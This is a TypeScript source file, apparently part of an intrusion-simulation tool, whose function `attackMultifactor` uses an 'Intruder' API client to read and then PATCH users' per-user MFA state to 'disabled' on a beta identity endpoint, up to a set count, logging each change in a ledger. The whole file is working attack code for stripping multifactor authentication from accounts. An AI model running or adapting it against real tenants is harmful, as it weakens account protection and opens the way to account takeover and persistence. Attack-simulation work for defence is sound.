import { nameOf, type Intruder, type Shown } from './intruder.js';

/** So many users are asked about for each one whose state is to be switched off: few have one. */
const ASKED_FOR_EACH = 60;

/** Switches per-user multifactor authentication off for users who have it, as far as they are found. */
export async function attackMultifactor(
  intruder: Intruder,
  users: readonly Shown[],
  most: number,
): Promise<void> {
  let switchedOff = 0;
  for (const user of users.slice(0, most * ASKED_FOR_EACH)) {
    if (switchedOff === most) return;
    const path = `/users/${user.id}/authentication/requirements`;
    const { perUserMfaState } = await intruder.read(path, 'beta');
    if (perUserMfaState === 'disabled') continue;
    await intruder.send('PATCH', path, { perUserMfaState: 'disabled' }, 'beta');
    intruder.ledger.add({
      type: 'user',
      id: user.id,
      kind: 'modified',
      name: nameOf(user),
      attributes: ['perUserMfaState'],
    });
    switchedOff += 1;
  }
}
